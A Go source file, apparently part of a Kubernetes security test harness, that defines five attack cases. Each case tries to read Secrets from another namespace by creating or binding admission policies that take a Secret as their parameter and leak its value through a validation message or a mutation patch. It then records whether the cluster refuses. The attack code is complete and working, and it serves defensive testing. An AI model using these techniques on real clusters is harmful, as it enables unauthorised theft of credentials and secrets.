package attack

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	rbacv1 "k8s.io/api/rbac/v1"
)

// parameters are attempts to read Secrets as the parameters of admission policies, which the server reads with rights of its own.
var parameters = []Attack{{
	ID: "C2-message", What: "read a Secret through the messageExpression of one's own ValidatingAdmissionPolicy",
	Run: leak{policy: validating, kind: "Secret", ref: `"name":"one","namespace":%q`}.read,
}, {
	ID: "C2-selector", What: "read all Secrets of a namespace through paramRef.selector: {}",
	Run: leak{policy: validating, kind: "Secret", ref: `"selector":{},"namespace":%q`}.read,
}, {
	ID: "C2-mutating", What: "copy a Secret into a ConfigMap by one's own MutatingAdmissionPolicy",
	Run: leak{policy: mutating, kind: "Secret", ref: `"name":"one","namespace":%q`}.read,
}, {
	ID: "C2-binding", What: "bind an administrator's policy to a Secret that one cannot read",
	Run: leak{policy: validating, kind: "Secret", byAdmin: true, ref: `"name":"one","namespace":%q`}.read,
}, {
	ID: "C2-kind-change", What: "change the paramKind of one's own policy from ConfigMap to Secret after it is bound",
	Run: leak{policy: validating, kind: "ConfigMap", change: true, ref: `"name":"one","namespace":%q`}.read,
}}

// A leak is a policy and a binding that show a parameter to the author of a ConfigMap.
type leak struct {
	policy  policy
	kind    string // of the parameter, at first
	ref     string // the paramRef, with the namespace of the Secret left out
	byAdmin bool   // the policy is the administrator's, only the binding is not
	change  bool   // the kind becomes Secret once the policy is bound
}

// A policy is one of the two kinds of admission policies.
type policy struct{ kind, plural, spec, binding string }

var (
	validating = policy{
		kind: "ValidatingAdmissionPolicy", plural: "validatingadmissionpolic",
		spec:    `"validations":[{"expression":"false","messageExpression":"'leaked ' + string(params.data.key)"}]`,
		binding: `,"validationActions":["Deny"]`,
	}
	mutating = policy{
		kind: "MutatingAdmissionPolicy", plural: "mutatingadmissionpolic",
		spec: `"reinvocationPolicy":"Never","mutations":[{"patchType":"JSONPatch","jsonPatch":{"expression":` +
			`"[JSONPatch{op: \"add\", path: \"/metadata/annotations\", value: {\"leaked\": string(params.data.key)}}]"}}]`,
	}
)

const (
	policies = "/apis/admissionregistration.k8s.io/v1/"
	// leaked is the value of the Secret, as it is stored and shown.
	leaked, plain = "bGVha2VkLXNlY3JldA==", "leaked-secret"
	// policyDelay is how long a policy may take until it is in force.
	policyDelay = 10 * time.Second
)

// read attempts to have a policy show a Secret of another namespace.
func (l leak) read(ctx context.Context, s *Site) (Result, error) {
	own, other, user, err := s.policyAuthor(ctx)
	if err != nil {
		return Result{}, err
	}
	name, author := s.Name("leak"), user
	if l.byAdmin {
		author = s.admin
	}
	object := func(kind string) string {
		return fmt.Sprintf(`{"apiVersion":"admissionregistration.k8s.io/v1","kind":%q,"metadata":{"name":%q},"spec":{"paramKind":{"apiVersion":"v1","kind":%q},`+
			`"matchConstraints":{"resourceRules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["configmaps"]}],`+
			`"namespaceSelector":{"matchLabels":{"kubernetes.io/metadata.name":%q}}},%s}}`, l.policy.kind, name, kind, own, l.policy.spec)
	}
	defer func() { // policies are cluster-wide: the next attack must not meet this one
		for _, plural := range []string{"ies", "ybindings"} {
			_, _, _ = s.admin.Do(context.WithoutCancel(ctx), http.MethodDelete, policies+l.policy.plural+plural+"/"+name, "", "")
		}
	}()
	if refused, err := s.step(author.Do(ctx, http.MethodPost, policies+l.policy.plural+"ies", "application/json", object(l.kind))); refused != nil || err != nil {
		return orNone(refused), err
	}
	binding := fmt.Sprintf(`{"apiVersion":"admissionregistration.k8s.io/v1","kind":"%sBinding","metadata":{"name":%q},"spec":{"policyName":%q,"paramRef":{"parameterNotFoundAction":"Deny",%s}%s}}`,
		l.policy.kind, name, name, fmt.Sprintf(l.ref, other), l.policy.binding)
	if refused, err := s.step(user.Do(ctx, http.MethodPost, policies+l.policy.plural+"ybindings", "application/json", binding)); refused != nil || err != nil {
		return orNone(refused), err
	}
	if l.change {
		if refused, err := s.step(user.Do(ctx, http.MethodPatch, policies+l.policy.plural+"ies/"+name, "application/merge-patch+json",
			`{"spec":{"paramKind":{"kind":"Secret"}}}`)); refused != nil || err != nil {
			return orNone(refused), err
		}
	}
	return s.awaitLeak(ctx, user, own)
}

// awaitLeak creates ConfigMaps until an answer shows the Secret.
func (s *Site) awaitLeak(ctx context.Context, user *Client, namespace string) (Result, error) {
	for end := time.Now().Add(policyDelay); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		code, text, err := user.Do(ctx, http.MethodPost, "/api/v1/namespaces/"+namespace+"/configmaps", "application/json",
			fmt.Sprintf(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":%q}}`, s.Name("bait")))
		if err != nil {
			return Result{}, err
		}
		if strings.Contains(text, leaked) || strings.Contains(text, plain) {
			return Succeeded("%d with the Secret", code), nil
		}
	}
	return Result{}, fmt.Errorf("the policy was accepted and shows nothing after %v", policyDelay)
}

// policyAuthor returns a user who may write policies and bindings everywhere, read and write ConfigMaps everywhere, and read no Secret; a
// namespace, and another with a Secret and a ConfigMap.
func (s *Site) policyAuthor(ctx context.Context) (own, other string, user *Client, err error) {
	for _, namespace := range []*string{&own, &other} {
		if *namespace, err = s.Namespace(ctx); err != nil {
			return "", "", nil, err
		}
	}
	for _, object := range []string{
		`secrets {"apiVersion":"v1","kind":"Secret","metadata":{"name":"one"},"data":{"key":"` + leaked + `"}}`,
		`configmaps {"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"one"},"data":{"key":"public"}}`,
	} {
		resource, body, _ := strings.Cut(object, " ")
		if _, err = s.admin.Must(ctx, http.MethodPost, "/api/v1/namespaces/"+other+"/"+resource, "application/json", body); err != nil {
			return "", "", nil, err
		}
	}
	all := []string{"create", "get", "list", "update", "patch"}
	user, err = s.UserWith(ctx, "author", "", rbacv1.PolicyRule{Verbs: all, APIGroups: []string{"admissionregistration.k8s.io"}, Resources: []string{
		"validatingadmissionpolicies", "validatingadmissionpolicybindings", "mutatingadmissionpolicies", "mutatingadmissionpolicybindings",
	}}, rbacv1.PolicyRule{Verbs: all, APIGroups: []string{""}, Resources: []string{"configmaps"}})
	return own, other, user, err
}

// step is a request on the way of an attack: nil if it was done, and a result if it was refused.
func (s *Site) step(code int, text string, err error) (*Result, error) {
	switch {
	case err != nil:
		return nil, err
	case code < http.StatusMultipleChoices:
		return nil, nil
	case code == http.StatusForbidden || code == http.StatusUnprocessableEntity && strings.Contains(text, "Forbidden"):
		r := Refused("%d", code)
		return &r, nil
	}
	return nil, fmt.Errorf("unexpected answer %d: %.300s", code, text)
}

// orNone returns the result, if there is one.
func orNone(r *Result) Result {
	if r == nil {
		return Result{}
	}
	return *r
}
